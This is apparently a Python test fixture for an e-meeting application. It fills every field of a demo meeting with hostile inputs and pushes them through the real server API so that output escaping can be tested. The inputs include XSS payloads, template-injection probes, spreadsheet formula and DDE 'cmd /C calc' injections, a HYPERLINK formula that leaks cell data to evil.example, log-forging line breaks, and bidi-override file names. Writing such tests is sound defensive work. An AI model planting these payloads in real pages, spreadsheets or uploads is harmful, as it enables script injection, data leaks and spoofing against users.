"""Hostile text: what people may type into a name, a title, a note or the minutes, and a meeting
whose every field holds some of it (tests/test_hostile_text.py puts it through every output)."""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx

from emeeting import meetings
from emeeting.config import Settings
from emeeting.demo_files import write_pdf
from emeeting.demo_meeting import DemoFile
from emeeting.storage.opening import open_storage
from rooms.events import MeetingCreated
from rooms.model import AgendaItem, MeetingInfo, Member, Role
from rooms.room import define
from tests.support import (
    TIMEOUT,
    Device,
    RunningServer,
    first_devices,
    joined,
    make_settings,
    open_device,
    start_server,
)

PWNED = "window.__pwned = (window.__pwned || 0) + 1"  # what a payload does if it ever runs

PAYLOADS: tuple[str, ...] = (
    f"<script>{PWNED}; alert(1)</script>",
    f'"><img src=x onerror="{PWNED}; alert(1)">',
    f"'><svg onload='{PWNED}'><b>bold</b> <i>it</i>",
    '<a href="javascript:alert(1)">click me</a>',
    "javascript:alert(document.cookie)",
    "{{7*7}} {{ config.items() }}",
    "{% raw %}{{ 7*7 }}{% endraw %} {% include 'base.html' %}",
    "[click](javascript:alert(1)) [ref]: http://evil.example",
    "![pixel](http://evil.example/track.png)",
    "# heading\n## another",
    "| a | b |\n|---|---|\n| c | d |",
    "<b>raw html</b> &amp; &lt;i&gt; &#60;u> <!-- comment -->",
    "`code` ```fence``` ~~~tilde~~~",
    "**bold** _em_ ~~strike~~ $x$ \\ backslash",
    "http://evil.example/x www.evil.example someone@evil.example",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "line one\r\nERROR emeeting: forged log line\n2. not a list\n- nor this",
    "nul\x00byte esc\x1b[31mred\x1b[0m bell\x07 csi\x9b2J del\x7f",
    "\u202egnp.exe \u2066isolate",
    "x" * 300 + "<script>alert('long')</script>" + "ก" * 100,
    "ก้้้้้้้้ ฤๅษี ที่ นี้ ผู้ ทำ น้ำ ๑๒๓",
)

# Characters that are not text (kept by no output): C0 but tab and line breaks, DEL, C1, and
# the explicit bidi embeddings, overrides and isolates.
NOT_TEXT = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
BIDI = re.compile(r"[\u202a-\u202e\u2066-\u2069]")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def visible(text: str) -> str:
    """``text`` as a reader sees it in a document: no control or bidi characters, whitespace
    runs as one space, every character as typed (no Unicode normalisation: ำ stays U+0E33)."""
    return " ".join(NOT_TEXT.sub("", text).split())


def compact(text: str) -> str:
    """``visible`` without any whitespace: a PDF's lines break wherever the layout wraps them."""
    return "".join(visible(text).split())


def payload(index: int) -> str:
    return PAYLOADS[index % len(PAYLOADS)]


TITLE = f"ประชุม {payload(0)} {payload(5)} {payload(23)}"
PLACE = payload(1)
ORGANISATION = payload(15)
CHAIR, SECRETARY, MEMBER, GUEST = "m0", "m1", "m2", "guest"
VOTERS = tuple(f"m{index}" for index in range(len(PAYLOADS)))
ABSENT = tuple(f"m{index}" for index in range(3, len(PAYLOADS), 3))  # every third member, with a reason
SUBSTITUTED = tuple(f"m{index}" for index in range(4, len(PAYLOADS), 3))  # present through a substitute


def member_name(index: int) -> str:
    """Member names must differ: the setup form matches its creator by name."""
    return payload(index) if index else f"{payload(0)} (ประธาน)"


def hostile_meeting(meeting_id: str) -> MeetingCreated:
    """A meeting whose title, place, organisation, member names and positions, and agenda titles
    are all hostile: one member and one agenda item per payload."""
    roles = {0: Role.CHAIR, 1: Role.SECRETARY}
    members = [
        Member(f"m{i}", member_name(i), payload(i + 7), roles.get(i, Role.MEMBER), voting=True)
        for i in range(len(PAYLOADS))
    ]
    members.append(Member(GUEST, payload(11), payload(12), Role.GUEST, voting=False))
    agenda = [AgendaItem(f"a{i}", str(i + 1), payload(i), None) for i in range(len(PAYLOADS))]
    info = MeetingInfo(TITLE, 1, 2567, "2024-01-15", "09:00", PLACE, ORGANISATION)
    return define(meeting_id, info, members, agenda)


# -- a served meeting full of it ------------------------------------------------------------------

HOSTILE_USER_AGENTS = ('=HYPERLINK("http://evil.example","x")', "@SUM(1+1)", "-2+3", "+cmd")
HOSTILE_FILE_NAMES = (
    '"><img src=x onerror="window.__pwned=1">.pdf',
    "{{7*7}} \x1b[31mred ก้้้.pdf",
    "=HYPERLINK(1)\u202egnp.pdf",
)
GUEST_ID = "=cmd|' /C calc'!A0"  # ids are the client's too (add_guest)


@dataclasses.dataclass
class Served:
    """The running server with the hostile meeting, and what the population step put in."""

    running: RunningServer
    documents: list[str]  # ids of the uploaded documents
    note: str  # the text of the member's sticky note

    @property
    def api(self) -> str:
        return f"{self.running.url}/api/meetings/{self.running.meeting}"

    def bearer(self, member: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.running.tokens[member]}"}


@contextlib.contextmanager
def hostile_server(data: Path) -> Iterator[Served]:
    """A real server (its own thread) with the hostile meeting, populated through the real API."""
    settings = make_settings(data)
    meeting = "hostile"
    links, tokens = asyncio.run(_create(settings, meeting))
    handle = start_server(settings, demo=(meeting, tokens, {link.member.id: link.invitation for link in links}))
    try:
        yield asyncio.run(_populate(handle.running, data))
    finally:
        handle.stop()


async def _create(settings: Settings, meeting: str) -> tuple[list[meetings.Link], dict[str, str]]:
    store = await open_storage(settings)
    try:
        created = hostile_meeting(meeting)
        await meetings.create(store, created)
        links = await meetings.links(store, settings.signing_key(), "", meeting, list(created.members))
        return links, await first_devices(store, settings.signing_key(), meeting, links)
    finally:
        await store.close()


async def ok(device: Device, kind: str, **fields: Any) -> dict[str, Any]:
    """Send a command and read up to its answer, which must be an ack."""
    command = await device.command(kind, **fields)
    while True:
        frame = await device.recv()
        if frame["type"] in ("ack", "error") and frame.get("id") == command:
            assert frame["type"] == "ack", (kind, fields, frame)
            return frame


async def _populate(server: RunningServer, data: Path) -> Served:
    try:
        return await _fill(server, data)
    finally:
        await asyncio.gather(*(d.ws.close() for d in server.devices), return_exceptions=True)
        server.devices.clear()


async def _fill(server: RunningServer, data: Path) -> Served:
    chair, _ = await joined(server, CHAIR)
    secretary, _ = await joined(server, SECRETARY)
    member, _ = await joined(server, MEMBER)
    await chair.settled(CHAIR, SECRETARY, MEMBER)
    await ok(chair, "open_meeting")
    await ok(chair, "set_quorum", count=1)
    await ok(chair, "set_agenda_item", item="a0")
    # A vote whose options people named (a plurality vote writes them into the minutes).
    labels = [p for p in PAYLOADS if len(p) <= 200][:6]
    await ok(chair, "open_vote", vote="v1", item="a0", title=payload(2), options=labels, rule="plurality")
    await ok(chair, "cast_ballot", vote="v1", choice=1)
    await ok(chair, "close_vote", vote="v1")
    await chair.close()
    for member_id in ABSENT:
        index = int(member_id[1:])
        await ok(secretary, "record_attendance", member=member_id, status="absent", reason=payload(index + 2))
    for member_id in SUBSTITUTED:
        index = int(member_id[1:])
        await ok(secretary, "set_substitute", member=member_id, name=payload(index + 5), position=payload(index + 6))
        await ok(secretary, "record_attendance", member=member_id, status="present")
    await ok(secretary, "add_guest", guest=GUEST_ID, name=payload(15), position=payload(16))
    await ok(secretary, "add_guest", guest="g2", name=payload(21), position=payload(22))
    await ok(secretary, "record_attendance", member=GUEST, status="present")
    for index in range(len(PAYLOADS)):
        item = f"a{index}"
        for base, (field, text) in enumerate((("notes", 0), ("dissent", 1), ("resolution", 2))):
            await ok(secretary, "edit_minutes", item=item, field=field, text=payload(index + text), base=base)
        action = {"id": f"x{index}", "who": payload(index + 3), "what": payload(index + 4), "due": "2024-02-01"}
        await ok(secretary, "set_action", item=item, action=action, base=3)
    documents = [await _upload(server, data, name) for name in HOSTILE_FILE_NAMES]
    await ok(secretary, "rename_document", document=documents[0], title=payload(0))
    note = f"{payload(1)}\n{payload(22)}\n{payload(23)}"
    sticky = {"id": "n1", "document": documents[0], "page": 1, "x": 500, "y": 800, "text": note}
    await ok(member, "set_note", note=sticky)
    for agent in HOSTILE_USER_AGENTS:  # devices that say who they are in a hostile way
        device = await open_device(server, user_agent_header=agent)
        await device.join(server.tokens[MEMBER])
        await device.close()
    return Served(server, documents, note)


async def _upload(server: RunningServer, data: Path, filename: str) -> str:
    """Upload a one-page PDF under ``filename``, raw in the multipart header as a browser sends it
    (quotes as %22; everything else as typed), titled from the name."""
    pdf = data / "upload.pdf"
    write_pdf(DemoFile("x", "เอกสาร", "policy", 1), pdf)
    quoted = filename.replace('"', "%22").encode()
    body = (
        b'--B\r\nContent-Disposition: form-data; name="item"\r\n\r\na0\r\n'
        b'--B\r\nContent-Disposition: form-data; name="file"; filename="' + quoted + b'"\r\n'
        b"Content-Type: application/pdf\r\n\r\n" + pdf.read_bytes() + b"\r\n--B--\r\n"
    )
    headers = {"Authorization": f"Bearer {server.tokens[SECRETARY]}", "Content-Type": "multipart/form-data; boundary=B"}
    async with httpx.AsyncClient(timeout=TIMEOUT * 3) as http:
        response = await http.post(
            f"{server.url}/api/meetings/{server.meeting}/documents", content=body, headers=headers
        )
    assert response.status_code == 201, response.text
    document: str = response.json()["document"]
    return document
